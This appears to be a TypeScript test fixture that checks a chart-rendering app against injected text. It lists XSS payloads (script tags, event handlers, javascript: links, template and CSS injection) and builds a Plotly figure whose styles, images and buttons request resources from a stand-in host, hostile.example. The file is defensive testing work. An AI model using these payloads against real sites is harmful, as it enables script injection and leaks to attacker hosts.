/**
 * Text that tries to be more than text: in tokens, prompts, models' and columns' names, sources. Every attempt, if it
 * succeeds, calls `srftHostile()`, opens a dialog, or asks for something of `hostile.example`.
 */
export const hostileTexts: readonly string[] = [
  "<script>srftHostile()</script>",
  "</script><script>srftHostile()</script>",
  "<!--<script>srftHostile()</script>-->",
  '"><img src=x onerror="srftHostile()">',
  "' onmouseover='srftHostile()' autofocus onfocus='srftHostile()",
  '" style="background:url(https://hostile.example/style)" x="',
  "</title></svg><svg onload=srftHostile()>",
  "</textarea></style></template><img src=x onerror=srftHostile()>",
  "<iframe srcdoc='<script>parent.srftHostile();top.srftHostile()</script>'></iframe>",
  "<iframe src=javascript:parent.srftHostile()></iframe>",
  "<a href=javascript:srftHostile()>click</a>",
  '<a href="https://hostile.example/link">link</a>',
  "javascript:srftHostile()",
  "<svg><a xlink:href=javascript:srftHostile()><text>x</text></a><animate onbegin=srftHostile() attributeName=x dur=1s></svg>",
  "<svg><foreignObject><img src=x onerror=srftHostile()></foreignObject></svg>",
  "<math><mtext><img src=x onerror=srftHostile()></mtext></math>",
  "<style>@import url(https://hostile.example/import);*{background:url(https://hostile.example/css)}</style>",
  "}*{background-image:url(https://hostile.example/escape)}",
  "expression(srftHostile())",
  "<link rel=stylesheet href=https://hostile.example/link.css>",
  "<meta http-equiv=refresh content='0;url=https://hostile.example/refresh'>",
  "<base href=https://hostile.example/>",
  "<form action=https://hostile.example/form><button autofocus onfocus=srftHostile()>",
  "<object data=https://hostile.example/object></object><embed src=https://hostile.example/embed>",
  "<details open ontoggle=srftHostile()>",
  "<video src=x onerror=srftHostile()></video><audio src=x onerror=srftHostile()>",
  "&lt;script&gt;srftHostile()&lt;/script&gt;",
  "&#60;img src=x onerror=srftHostile()&#62;",
  "\\u003cimg src=x onerror=srftHostile()\\u003e",
  "]]><script>srftHostile()</script><![CDATA[",
  `\${srftHostile()}\`;srftHostile();//`,
  "');srftHostile();//",
  '");srftHostile();//',
  "\u2028srftHostile()\u2029",
  "{{constructor.constructor('srftHostile()')()}}",
  "%{customdata}<img src=x onerror=srftHostile()>",
  "![x](javascript:srftHostile()) [x](javascript:srftHostile())",
  "[x](data:text/html,<script>srftHostile()</script>)",
  "$\\href{javascript:srftHostile()}{x}$",
  "\u0000<\u0000img src=x onerror=srftHostile()>",
  "\u202e<\u200bscript>srftHostile()</script>",
  "__proto__",
  "constructor",
];

const address = (name: string) => `https://hostile.example/${name}`;
const place = { x: 0, y: 1, sizex: 1, sizey: 1 };

/** A figure that would ask the network as it is drawn, pointed at or clicked: images, styles, templates, frames, buttons. */
export const askingFigure = {
  data: [
    {
      ...{ type: "scatter", mode: "markers+text", x: [1, 2], y: [1, 2], marker: { size: 20 } },
      ...{ name: `<span style="fill:url(${address("name#a")})">name</span>`, meta: ["<span sty", address("meta")] },
      ...{ texttemplate: `%{meta[0]}le="background:url(%{meta[1]})">text</span>` },
      ...{ hovertemplate: `<span sty%{meta[2]}le='background:url(${address("hover")})'>hover</span>` },
    },
  ],
  layout: {
    ...{ height: 300, showlegend: true, meta: ["le"] },
    title: { text: `<b style='background-image:url("${address("title")}")'>a title</b><sty%{meta[0]}>` },
    xaxis: { title: { text: `<i style="mask:u&#114;l(${address("entity")});filter:url(${address("filter")})">x</i>` } },
    images: [
      { source: address("image.png"), ...place },
      { source: "/relative.png", ...place },
    ],
    template: { layout: { imagedefaults: { source: address("default.png") } } },
    updatemenus: [
      {
        type: "buttons",
        buttons: [
          { label: "pairs", method: "relayout", args: [{ "images[0].source": address("pairs.png") }] },
          { label: "names", method: "relayout", args: ["images[0].source", address("names.png")] },
          { label: "whole", method: "relayout", args: [{ images: [{ source: address("whole.png"), ...place }] }] },
        ],
      },
    ],
  },
  frames: [{ name: "one", layout: { images: [{ source: address("frame.png"), ...place }] } }],
};

/** A figure whose map plotly.js fetches. */
export const mapFigure = { data: [{ type: "scattergeo", lon: [1], lat: [2] }], layout: {} };
